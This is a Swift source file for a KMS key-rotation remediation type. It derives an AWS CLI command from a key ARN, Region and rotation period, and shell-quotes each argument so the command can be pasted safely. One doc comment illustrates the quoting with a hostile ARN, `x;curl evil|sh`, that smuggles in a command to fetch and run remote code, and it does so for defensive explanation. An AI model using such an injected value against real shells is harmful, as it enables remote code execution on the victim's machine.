/// What fixes a non-compliant key: one KMS call, with the equivalent AWS CLI command.
///
/// For a multi-Region replica the remediation targets the primary key (rotation is set there and
/// shared with every replica).
public struct Remediation: Sendable, Hashable, Codable {
    /// The KMS operation that fixes the finding.
    public enum Action: String, Sendable, Hashable, Codable {
        /// `EnableKeyRotation`, optionally with `RotationPeriodInDays` (calling it again changes the period).
        case enableKeyRotation = "EnableKeyRotation"
        /// `RotateKeyOnDemand`: new key material now, without changing the automatic schedule (for imported
        /// material, after importing the new material). At most 25 per key.
        case rotateKeyOnDemand = "RotateKeyOnDemand"
    }

    /// The operation to call.
    public var action: Action
    /// The ARN of the key to call it on (the primary key for a replica).
    public var keyArn: String
    /// The Region to call it in (the primary's Region for a replica).
    public var region: String?
    /// The rotation period to set; `nil` keeps AWS's default (365 days).
    public var rotationPeriodInDays: Int?
    /// The equivalent AWS CLI command, each argument POSIX-quoted where it needs to be, so copying it into
    /// a shell is safe whatever the key ARN holds.
    public var command: String
    /// A precondition or caveat a person should know before applying it.
    public var note: String?

    /// Creates a remediation; ``command`` is derived from the other members.
    package init(action: Action, keyArn: String, region: String?, rotationPeriodInDays: Int? = nil, note: String? = nil) {
        self.action = action
        self.keyArn = keyArn
        self.region = region
        self.rotationPeriodInDays = rotationPeriodInDays
        self.note = note
        var arguments = ["aws", "kms", action == .enableKeyRotation ? "enable-key-rotation" : "rotate-key-on-demand", "--key-id", keyArn]
        if let rotationPeriodInDays, action == .enableKeyRotation {
            arguments += ["--rotation-period-in-days", String(rotationPeriodInDays)]
        }
        if let region { arguments += ["--region", region] }
        self.command = arguments.map(Self.shellQuoted).joined(separator: " ")
    }

    /// An argument as a POSIX shell reads it back unchanged: as it is when it holds only characters no
    /// shell treats specially (letters, digits and `@%_+=:,./-`, which covers every real key ARN and
    /// Region), otherwise in single quotes with each `'` written `'\''`. A hostile ARN such as
    /// `x;curl evil|sh` is then one inert argument when the command is copied into a shell.
    static func shellQuoted(_ argument: String) -> String {
        let safe =
            !argument.isEmpty
            && argument.unicodeScalars.allSatisfy { scalar in
                switch scalar {
                case "a"..."z", "A"..."Z", "0"..."9", "@", "%", "_", "+", "=", ":", ",", ".", "/", "-": return true
                default: return false
                }
            }
        return safe ? argument : "'" + argument.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
    }
}
